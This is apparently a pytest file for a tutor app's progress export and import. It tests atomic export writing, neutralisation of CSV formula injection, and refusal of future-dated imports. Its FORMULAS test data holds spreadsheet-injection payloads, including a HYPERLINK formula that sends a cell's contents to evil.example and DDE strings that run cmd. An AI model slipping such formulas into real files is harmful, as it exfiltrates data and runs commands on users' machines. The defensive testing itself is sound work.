"""``tutor progress --export/--csv`` and ``--import``: three data-loss findings of a hostile audit.

* 1. An export stopped part way (a full disk, a kill) destroyed the previous export: the file was written
  in place. It is now written whole or not at all (a temporary file beside it, flushed, then renamed over
  it: ``backup.write_whole``, as the migration's backup is made), so the old file stays as it was and no
  temporary file is left.
* 2. The learner's own CSV passed only the typed answers through ``spreadsheet_cell``; an imported record
  holding ``=…``, ``+…``, ``-…`` or ``@…`` in its item, laws, position or uid gave a spreadsheet formula.
  Every text cell is now written as text.
* 3. An imported answer dated 2999 completed assignments, counted in "the last day" and kept its learner
  out of "Needs attention" for ever. An answer dated more than ``FUTURE_TOLERANCE`` (a day, for clocks that
  disagree) after the import is refused in one line naming it, and nothing of that import is written.
"""

from __future__ import annotations

import csv
import errno
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from test_stored_text_hardening import one_error_line, run

from tutor.engine.errors import TutorError
from tutor.lessons.answers import Answer
from tutor.lessons.progress import open_store, progress_io
from tutor.lessons.progress.progress_io import CSV_COLUMNS, import_bytes, import_json, parse_record


def _store_with_answers(path: Path, count: int = 40) -> None:
    with open_store(path) as store:
        for n in range(count):
            store.record(Answer("law", "law-12", n % 2 == 0, "5" * (n + 1), "5", laws=("law-12",)), "anna",
                         now=datetime(2026, 1, 1, tzinfo=UTC) + timedelta(hours=n))


# --- 1. an export is written whole or not at all -------------------------------------------------------

class _FullDisk:
    """A file being written that takes half of the first write, then fails as a full disk does."""

    def __init__(self, handle: Any) -> None:
        self._handle = handle

    def write(self, data: Any) -> int:
        self._handle.write(data[: max(1, len(data) // 2)])
        self._handle.flush()
        raise OSError(errno.ENOSPC, "No space left on device")

    def __getattr__(self, name: str) -> Any:
        return getattr(self._handle, name)

    def __enter__(self) -> _FullDisk:
        return self

    def __exit__(self, *exc: object) -> None:
        self._handle.close()


def _disk_fills_in(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every file opened for writing in ``folder`` (by name, or by descriptor: ``os.fdopen`` opens through
    ``io.open`` too) fails half way through its first write."""
    real_open = io.open

    def opening(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        handle = real_open(file, mode, *args, **kwargs)
        by_name = isinstance(file, str | Path) and Path(file).resolve().parent == folder.resolve()
        if ("w" in mode or "a" in mode or "x" in mode) and (by_name or isinstance(file, int)):
            return _FullDisk(handle)
        return handle

    monkeypatch.setattr(io, "open", opening)


@pytest.mark.parametrize("flag", ["--export", "--csv"])
def test_an_export_that_fails_part_way_leaves_the_previous_export_whole(
        flag: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    db = tmp_path / "p.db"
    _store_with_answers(db)
    out_dir = tmp_path / "exports"
    out_dir.mkdir()
    target = out_dir / "record.out"
    assert run("progress", "--db", str(db), flag, str(target))[0] == 0
    previous = target.read_bytes()
    assert len(previous) > 1000  # the export of 40 answers: something to lose
    with open_store(db) as store:  # the record grows: the next export is another file
        store.record(Answer("law", "law-13", True, "6", "6", laws=("law-13",)), "anna",
                     now=datetime(2026, 2, 1, tzinfo=UTC))
    _disk_fills_in(out_dir, monkeypatch)
    code, _, err = run("progress", "--db", str(db), flag, str(target))
    monkeypatch.undo()
    assert code == 2 and "No space left" in one_error_line(err)
    assert target.read_bytes() == previous  # the previous export as it was, not half of the new one
    assert sorted(p.name for p in out_dir.iterdir()) == ["record.out"]  # no temporary file left beside it
    assert run("progress", "--db", str(db), flag, str(target))[0] == 0  # and the next export replaces it
    assert target.read_bytes() != previous


def test_an_export_replaces_the_file_and_keeps_its_permissions(tmp_path: Path) -> None:
    db = tmp_path / "p.db"
    _store_with_answers(db, count=2)
    target = tmp_path / "record.json"
    target.write_text("the old export", encoding="utf-8")
    target.chmod(0o640)
    assert run("progress", "--db", str(db), "--export", str(target))[0] == 0
    assert len(json.loads(target.read_text(encoding="utf-8"))["answers"]) == 2
    assert target.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# --- 2. every text cell of the learner's CSV is text to a spreadsheet ----------------------------------

FORMULAS = {
    "item_kind": "=1+2",
    "item_id": '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "given": "+cmd|' /C calc'!A0",
    "expected": "-2+3",
    "laws": ["@SUM(1,2)", "law-12"],
    "position": "=cmd|' /C notepad'!A0",
    "uid": "-abcdefgh0001",
}
#: the columns the tutor writes as numbers or times, not text a learner or a file chose
NOT_TEXT = {"answered_at", "correct", "seed", "seconds", "retry"}


def _record(*answers: dict[str, object]) -> dict[str, object]:
    return {"format": "vint-tutor-progress", "schema_version": 8,
            "learners": [{"name": "anna", "created_at": "2026-01-01T00:00:00Z"}], "answers": list(answers)}


def _answer(**fields: object) -> dict[str, object]:
    return {"uid": "abcdefgh0001", "learner": "anna", "answered_at": "2026-06-01T00:00:00Z", "item_kind": "law",
            "item_id": "law-12", "correct": False, "given": "5", "expected": "6", "laws": ["law-12"],
            "seed": 3, "position": "", "seconds": 1.5, **fields}


def test_no_cell_of_the_learners_csv_is_a_formula(tmp_path: Path) -> None:
    db = tmp_path / "p.db"
    source = tmp_path / "mine.json"
    source.write_text(json.dumps(_record(_answer(**FORMULAS))), encoding="utf-8")
    assert run("progress", "--db", str(db), "--import", str(source))[0] == 0  # a record the import takes
    out = tmp_path / "answers.csv"
    assert run("progress", "--db", str(db), "--csv", str(out))[0] == 0
    header, row = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert tuple(header) == CSV_COLUMNS
    cells = dict(zip(header, row, strict=True))
    for column, cell in cells.items():
        assert cell[:1] not in ("=", "+", "-", "@"), (column, cell)
    # each is the learner's text, kept: only the quote a spreadsheet reads as "this is text" before it
    for column, text in FORMULAS.items():
        wanted = " ".join(text) if isinstance(text, list) else text
        assert cells[column] == "'" + wanted, (column, cells[column])
    assert {c for c in CSV_COLUMNS if c not in NOT_TEXT} >= {*FORMULAS, "learner"}


# --- 3. an imported answer dated in the future -----------------------------------------------------------

def _future(uid: str = "future000001") -> dict[str, object]:
    return _answer(uid=uid, answered_at="2999-01-01T00:00:00Z", correct=True, given="5", expected="5")


def test_an_import_of_an_answer_dated_2999_is_refused_naming_it_and_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "mine.json"
    path.write_text(json.dumps(_record(_answer(uid="goodanswer01"), _future())), encoding="utf-8")
    with open_store(tmp_path / "p.db") as store:
        with pytest.raises(TutorError) as refused:
            import_json(store, path)
        assert store.answers() == [] and store.learners() == []  # not even the good answer, nor the learner
        with pytest.raises(TutorError):  # the Progress page's upload (a learner's own record) the same
            import_bytes(store, path.read_bytes(), "mine.json", only="anna")
        assert store.answers() == [] and store.learners() == []
    line = str(refused.value)
    assert "\n" not in line and "future000001" in line and "2999-01-01" in line and "goodanswer01" not in line


def test_the_cli_refuses_it_in_one_line(tmp_path: Path) -> None:
    path = tmp_path / "mine.json"
    path.write_text(json.dumps(_record(_future("future000002"))), encoding="utf-8")
    db = tmp_path / "p.db"
    code, out, err = run("progress", "--db", str(db), "--import", str(path))
    assert code == 2 and out == "" and "future000002" in one_error_line(err)
    with open_store(db) as store:
        assert store.answers() == []


def test_the_tolerance_allows_a_clock_a_little_ahead_and_no_more() -> None:
    """Against a stated time of the import (no wall clock read): a day of skew is taken, past it refused."""
    now = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
    tolerance = progress_io.FUTURE_TOLERANCE
    assert tolerance == timedelta(days=1)  # "a small stated tolerance for clock skew": a day

    def at(when: datetime) -> dict[str, object]:
        return _record(_answer(answered_at=when.isoformat()))

    _, answers = parse_record(at(now + tolerance), "a.json", now=now)
    assert [a.answered_at for a in answers] == [now + tolerance]
    assert parse_record(at(now - timedelta(days=300)), "a.json", now=now)[1]  # the past, as ever
    with pytest.raises(TutorError, match="abcdefgh0001"):
        parse_record(at(now + tolerance + timedelta(seconds=1)), "a.json", now=now)
